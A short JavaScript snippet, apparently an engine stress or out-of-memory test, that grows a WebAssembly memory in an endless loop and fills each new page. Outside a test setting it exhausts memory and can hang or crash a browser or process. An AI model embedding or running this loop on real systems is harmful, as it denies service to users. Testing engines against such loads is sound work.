const memory = new WebAssembly.Memory({ initial: 1 });
for (;;) {
  const page = memory.grow(16);
  new Uint8Array(memory.buffer, page << 16).fill(1);
}
